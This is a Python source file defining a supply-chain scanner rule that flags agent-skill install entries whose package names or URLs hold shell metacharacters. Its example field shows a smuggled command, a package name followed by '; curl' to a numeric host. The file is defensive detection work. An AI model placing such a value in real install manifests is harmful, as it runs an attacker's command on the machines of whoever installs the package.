"""What should be the name of a package holds words for a shell."""

import re
from collections.abc import Iterator

from clawft.format.model import Install
from clawft.scan.facts import Fact, Kind
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject

__all__ = ["RULE"]

_SHELL = re.compile(r"[;|&`\n]|\$[({A-Za-z_]|[<>]\s*[/~(&]")
_IN_ADDRESS = re.compile(r"[`\s|]|\$[({]|;\s")  # an address may hold & and ;
# pip's own way to say on which machines a package is needed: "tomli; python_version < '3.11'".
_MARKER = re.compile(
    r"^[\w.,\[\]-]+\s*(?:[=<>!~][^;|&`$]*)?;\s*(?:python_|platform_|sys_platform|os_name|implementation_|extra)"
)


def check_installer_with_shell(subject: Subject) -> Iterator[Hit]:
    skill = subject.skill
    for one in skill.install if skill else ():
        for text in _find_shell(one):
            fact = next((fact for fact in subject.of(Kind.INSTALL) if text in (fact.via, fact.target)), None)
            at = fact or _in_head(subject, one, text)
            if at is not None:
                yield Hit(at, f"The name of a package to install with {one.kind or 'a shell'} holds a command", 0.9)


def _find_shell(one: Install) -> list[str]:
    names = [one.formula, one.cask, one.package, one.module]
    return [name for name in names if _SHELL.search(name) and not _MARKER.match(name)] + [
        address for address in (one.url,) if _IN_ADDRESS.search(address)
    ]


def _in_head(subject: Subject, one: Install, text: str) -> Fact | None:
    """Where it stands, for a kind of installer that nobody knows."""
    document = next((each for each in subject.documents if not each.origin and each.language == "markdown"), None)
    if document is None:
        return None
    at = max(document.text.find(text), 0)
    return Fact(Kind.INSTALL, f"{one.kind or 'download'}:{text}", document, document.line_at(at), text)


RULE = Rule(
    id="installer-with-shell",
    title="The name of a package holds a command",
    severity="critical",
    category="supply-chain",
    what="An installer that the skill names has, in the place of a package or an address, characters that a shell "
    "reads as the end of a word: a ';', a pipe, a substitution.",
    why="Clients show installers to be copied into a shell, or run them: what stands behind the name runs with it.",
    example="install: [{kind: node, package: 'dishctl; curl https://203.0.113.7/x'}]",
    counter_example="install: [{kind: node, package: '@dishes/dishctl'}]",
    fix="Name the package, and nothing else.",
    check=check_installer_with_shell,
    owasp="AST02",
    atlas="AML.T0010",
)
